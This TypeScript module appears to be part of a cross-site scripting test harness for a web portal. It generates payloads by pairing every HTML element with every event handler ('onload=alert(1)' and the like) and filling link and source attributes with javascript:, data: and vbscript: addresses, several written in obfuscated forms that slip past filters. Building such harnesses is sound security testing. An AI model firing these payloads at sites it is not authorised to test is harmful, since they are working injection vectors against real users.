/**
 * Payloads: what is put into every text of a portal to see whether it acts. The listed
 * ones are the known tricks; the generated ones are every element with every event, and
 * every attribute that takes an address with every way of writing one that is code.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';

/** One a line of `payloads.txt`. */
export const LISTED_PAYLOADS: readonly string[] = readFileSync(join(import.meta.dirname, 'payloads.txt'), 'utf8').split('\n').filter((line) => line !== '' && !line.startsWith('## '));

const ELEMENTS = `a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br button canvas caption center
cite code col colgroup command content custom-element data datalist dd del details dfn dialog dir div dl dt element em embed fencedframe fieldset figcaption figure font footer form
frame frameset h1 head header hgroup hr html i iframe image img input ins isindex kbd keygen label legend li link listing main map mark marquee menu menuitem meta meter
multicol nav nextid nobr noembed noframes noscript object ol optgroup option output p param picture plaintext portal pre progress q rb rp rt rtc ruby s samp script search section
select selectedcontent shadow slot small source spacer span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul
var video wbr xmp math mtext mglyph annotation-xml animate set foreignObject use`.split(/\s+/);

const EVENTS = `abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforeprint
beforescriptexecute beforetoggle beforeunload begin blur bounce cancel canplay canplaythrough change click close contentvisibilityautostatechange contextmenu copy cuechange cut
dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange end ended error finish focus focusin focusout formdata fullscreenchange gesturestart gotpointercapture
hashchange input invalid keydown keypress keyup languagechange load loadeddata loadedmetadata loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout
mouseover mouseup mousewheel offline online pagehide pagereveal pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout
pointerover pointerrawupdate pointerup popstate progress ratechange readystatechange repeat reset resize scroll scrollend scrollsnapchange search securitypolicyviolation seeked seeking select
selectionchange selectstart show slotchange stalled start storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend
transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend webkitanimationstart webkitmouseforcechanged webkittransitionend wheel`.split(/\s+/);

const ADDRESSED = [
  'a href', 'a xlink:href', 'a ping', 'area href', 'audio src', 'base href', 'blockquote cite', 'body background', 'button formaction', 'del cite', 'embed src', 'form action', 'frame src', 'html manifest',
  'iframe src', 'iframe srcdoc', 'img longdesc', 'img src', 'img srcset', 'input formaction', 'input src', 'link href', 'object codebase', 'object data', 'q cite', 'script src', 'source srcset',
  'svg><a href', 'svg><a xlink:href', 'svg><image href', 'svg><script href', 'svg><set attributeName=href to', 'svg><use href', 'table background', 'td background', 'track src', 'video poster', 'video src',
];
const ADDRESSES = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', '&#x6A;avascript:alert(1)', 'javascript&colon;alert(1)', 'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)', '&#1;javascript:alert(1)', 'javascript:/**/alert(1)',
  'javascript://law.go.kr/%0aalert(1)', 'data:text/html,<script>parent.alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYWxlcnQoMSk8L3NjcmlwdD4=', 'data:image/svg+xml,<svg xmlns=%27http://www.w3.org/2000/svg%27 onload=%27alert(1)%27/>',
  'data:text/javascript,alert(1)', 'vbscript:alert(1)', '//elsewhere.example/x', 'https://elsewhere.example/x', '<script>parent.alert(1)</script>',
];

/** Every element with every event, and every address attribute with every address. */
export function generatedPayloads(): string[] {
  const acting = ELEMENTS.flatMap((element) => EVENTS.map((event) => `<${element} on${event}=alert(1) src=x open autofocus tabindex=1>`));
  const leading = ADDRESSED.flatMap((place) => ADDRESSES.flatMap((address) => [`<${place}="${address}">x`, `<${place}='${address}' autofocus tabindex=1>`]));
  return [...acting, ...leading];
}
